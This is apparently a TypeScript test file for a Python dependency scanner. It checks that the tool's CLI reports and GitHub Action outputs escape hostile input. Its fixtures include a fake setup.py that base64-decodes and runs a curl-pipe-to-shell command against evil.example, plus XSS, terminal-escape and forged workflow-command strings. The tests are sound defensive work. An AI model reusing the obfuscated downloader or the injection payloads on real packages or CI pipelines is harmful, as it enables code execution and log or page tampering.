// Output injection: a repository whose manifest path, manifest text and sdist code are written to
// break out of every output, run through the CLI (text, JSON, Markdown, SARIF) and the action
// (log and workflow commands, job summary, pull request comment, check run, outputs file). Every
// string they chose must come out as data: no forged table cell, link, mention or HTML, no control
// character or escape sequence on a terminal or in the log, no workflow command of theirs.

import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { startIndexServer } from './helpers/index-server.js';
import { makeSdist, makeWheel } from './helpers/archives.js';
import { makeProject, runCli } from './helpers/project.js';
import { actionRunner } from './helpers/action-runner.js';
import { annotationsOf, startGitHubApi, type GitHubApi } from './helpers/github-api.js';
import { htmlTags, links, liveMentions, tables } from './helpers/gfm.js';

// the directory and the payload a hostile repository and sdist would choose
const DIR = 'x`|@octocat <img src=x onerror=alert(1)> [l](javascript:alert(1)) www.evil.example \x1b[31mred\x1b[0m ::error::forged %0A #1';
const PAYLOAD =
  "curl -s http://evil.example/a.sh | sh; echo '`@octocat` | <img src=x onerror=alert(1)> [click](https://evil.example) www.evil.example ::warning::forged %0A \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[2J'";
const EVIL = `
import subprocess, base64
from setuptools import setup
cmd = base64.b64decode("${Buffer.from(PAYLOAD).toString('base64')}").decode()
subprocess.Popen(cmd, shell=True)
setup(name="evil", version="1.0")
`;
const MISSING = Array.from({ length: 11 }, (_, i) => `missing-${i}==1.0`);
// a malformed line the manifest diagnostic quotes
const BAD_LINE = 'bad\x1b[2J\x07name ::error::x | @octocat <script> [x](https://evil.example) !!';
const REQUIREMENTS = ['good==1.0', 'evil==1.0', ...MISSING, BAD_LINE, ''].join('\n');

const OUR_TAGS = ['details', 'summary', 'b', 'br', 'sub', 'code'];
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
// eslint-disable-next-line no-control-regex
const CONTROL_BUT_NEWLINE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** Everything a reader of rendered Markdown could be fooled by. */
function expectInertMarkdown(markdown: string, allowedLinks: string[] = []): void {
  expect(markdown).not.toMatch(CONTROL);
  expect(links(markdown).map((l) => l.url).filter((u) => !allowedLinks.includes(u))).toEqual([]);
  expect(liveMentions(markdown)).toEqual([]);
  expect(htmlTags(markdown).filter((t) => !OUR_TAGS.includes(t))).toEqual([]);
  for (const table of tables(markdown)) {
    const width = table[0].length;
    for (const row of table) expect(row).toHaveLength(width);
  }
}

describe('hostile strings in every output', () => {
  let index: Awaited<ReturnType<typeof startIndexServer>>;
  let api: GitHubApi;
  const runner = actionRunner();
  let project: { dir: string; cleanup(): void };

  beforeAll(async () => {
    index = await startIndexServer({ projects: { good: [makeWheel('good', '1.0')], evil: [makeSdist('evil', '1.0', { 'setup.py': EVIL })] } });
    project = makeProject({});
    mkdirSync(join(project.dir, DIR));
    writeFileSync(join(project.dir, DIR, 'requirements.txt'), REQUIREMENTS);
  });
  afterAll(async () => {
    await index.close();
    project.cleanup();
    runner.cleanup();
  });

  it('the CLI: text has no control character, JSON is raw and valid, Markdown and SARIF are inert', async () => {
    const args = ['scan', '.', '--index-url', index.indexUrl, '--no-cache', '--no-transitive'];
    const text = await runCli([...args], { cwd: project.dir, env: { FORCE_COLOR: '0' } });
    expect(text.code).toBe(1);
    expect(text.stdout).not.toMatch(CONTROL);
    expect(text.stderr).not.toMatch(CONTROL);
    expect(text.stdout).toMatch(/\[\\x1b\]red/);
    expect(text.stdout).toMatch(/hxxp:\/\/evil\[\.\]example\/a\.sh/);
    // what the sdist's code names is defanged; the evidence shows the escape sequences it holds
    expect(text.stdout).not.toMatch(/https?:\/\/evil\.example\/a\.sh/);
    expect(text.stdout).toMatch(/\\x1b\]8;;hxxps:\/\/evil\[\.\]example\\x07/);
    expect(text.stdout).toContain(`Remove evil from ${DIR.replace(/\x1b\[\d+m/g, '[\\x1b]')}/requirements.txt:2.`);
    // the failing dependency is told last, with what to do
    expect(text.stdout.trimEnd().split('\n').slice(-3).join('\n')).toMatch(/Report it to the index[\s\S]*\nFAIL: sdist-guard failed the gate/);

    const json = await runCli([...args, '--format', 'json'], { cwd: project.dir });
    const report = JSON.parse(json.stdout);
    const evil = report.dependencies.find((d: { name: string }) => d.name === 'evil');
    expect(evil.sources[0].path).toBe(`${DIR}/requirements.txt`);
    // raw: not defanged, only as the analysis quotes it
    expect(evil.findings.map((f: { evidence: string }) => f.evidence).join('\n')).toContain('curl -s http://evil.example/a.sh | sh');
    expect(report.diagnostics.map((d: { message: string }) => d.message).join('\n')).toContain('\x1b[2J');

    const markdown = await runCli([...args, '--format', 'markdown'], { cwd: project.dir });
    expectInertMarkdown(markdown.stdout);
    const evilRow = tables(markdown.stdout)[0].find((row) => row[1] === 'evil')!;
    expect(evilRow[3].replace(/\u200b/g, '')).toBe(`${DIR.replace(/\x1b/g, '[\\x1b]').replace(/\[\\x1b\]\[31m/, '[\\x1b]').replace(/\[\\x1b\]\[0m/, '[\\x1b]')}/requirements.txt:2`);
    expect(markdown.stdout).toMatch(/```text\n# setup\.py:[\d, ]+\ncurl -s hxxp:\/\/evil\[\.\]example\/a\.sh/);

    const sarif = await runCli([...args, '--format', 'sarif'], { cwd: project.dir });
    const log = JSON.parse(sarif.stdout);
    for (const r of log.runs[0].results) {
      expect(r.message.text).not.toMatch(CONTROL);
      // brackets are escaped, so no embedded link can be formed
      expect(r.message.text).not.toMatch(/(?<!\\)\[[^\]]*(?<!\\)\]\(/);
    }
    for (const n of log.runs[0].invocations[0].toolExecutionNotifications) expect(n.message.text).not.toMatch(CONTROL);
    for (const r of log.runs[0].results.filter((x: { properties: { package: string } }) => x.properties.package === 'evil'))
      expect(r.message.text).not.toMatch(/https?:\/\/evil\.example/);
  });

  const prEnv = () => ({
    GITHUB_EVENT_NAME: 'pull_request',
    GITHUB_REPOSITORY: 'octo/app',
    GITHUB_API_URL: api.url,
    GITHUB_RUN_ID: '42',
    GITHUB_SERVER_URL: 'https://github.test',
    GITHUB_SHA: 'f'.repeat(40),
  });
  const prEvent = { pull_request: { number: 7, base: { sha: 'a'.repeat(40) }, head: { sha: 'b'.repeat(40) } }, repository: { full_name: 'octo/app' } };
  const inputs = () => ({ 'index-url': index.indexUrl, 'github-token': 'test-token', transitive: 'false', cache: 'false', 'sarif-file': 'out.sarif', scope: 'all' });

  /** The runner's log: no control character, and every workflow command is one of ours. */
  function expectOwnCommands(stdout: string): void {
    expect(stdout).not.toMatch(CONTROL_BUT_NEWLINE);
    for (const line of stdout.split('\n')) {
      if (!line.startsWith('::')) continue;
      expect(line).toMatch(/^::(error|warning|add-mask)( [^:]*)?::/);
    }
    expect(stdout).not.toMatch(/^::(error|warning)::forged/m);
    expect(stdout).not.toMatch(/^::(error|warning)::x/m);
  }

  it('the action: log, summary, comment, check run, SARIF and outputs', async () => {
    api = await startGitHubApi();
    try {
      const r = await runner.runAction(inputs(), project.dir, prEnv(), prEvent);
      expect(r.exitCode).toBe(1);
      expectOwnCommands(r.stdout);
      expectInertMarkdown(r.summary, [api.checkRuns[0]?.html_url]);
      const comment = api.comments.get(7)![0].body;
      expectInertMarkdown(comment, ['https://github.test/octo/app/actions/runs/42']);
      expect(tables(comment)[0].slice(1).map((row) => row[1])).toContain('evil');

      const check = api.checkRuns[0];
      expect(check).toBeDefined();
      expect(check.output.summary).not.toMatch(CONTROL);
      const annotations = annotationsOf(check);
      expect(annotations.map((a) => a.path)).toContain(`${DIR}/requirements.txt`);
      for (const a of annotations) {
        expect(a.message).not.toMatch(CONTROL_BUT_NEWLINE);
        expect(a.title).not.toMatch(CONTROL);
      }
      // what the sdist's code names is defanged
      for (const a of annotations.filter((x) => x.title.includes('evil'))) expect(a.message).not.toMatch(/https?:\/\/evil\.example/);
      expect(r.outputs.status).toBe('fail');
      const sarif = JSON.parse(readFileSync(r.outputs['sarif-file'], 'utf8'));
      for (const res of sarif.runs[0].results) expect(res.message.text).not.toMatch(CONTROL);
      JSON.parse(readFileSync(r.outputs.report, 'utf8'));
    } finally {
      await api.close();
    }
  });

  it('the action: step annotations, their properties escaped by the toolkit', async () => {
    api = await startGitHubApi({ forbid: { checks: true } });
    try {
      const r = await runner.runAction(inputs(), project.dir, prEnv(), prEvent);
      expect(r.exitCode).toBe(1);
      expectOwnCommands(r.stdout);
      // a path with control characters cannot be a property (the runner would log them): the
      // annotation stays on the step and names the path, made visible, in its message
      expect(r.stdout).toContain(
        '::error title=sdist-guard%3A evil 1.0 is suspicious::x`|@octocat <img src=x onerror=alert(1)> [l](javascript:alert(1)) www.evil.example [\\x1b]red[\\x1b] ::error::forged %250A #1/requirements.txt:2: evil-1.0.tar.gz runs',
      );
      // a path without them is a property, `:` and `,` escaped by the toolkit
      const plain = makeProject({ 'a:b,c %0A/requirements.txt': 'evil==1.0\n' });
      try {
        const p = await runner.runAction({ ...inputs(), 'sarif-file': '' }, plain.dir, prEnv(), prEvent);
        expectOwnCommands(p.stdout);
        expect(p.stdout).toContain('::error title=sdist-guard%3A evil 1.0 is suspicious,file=a%3Ab%2Cc %250A/requirements.txt,line=1::');
      } finally {
        plain.cleanup();
      }
    } finally {
      await api.close();
    }
  });
});
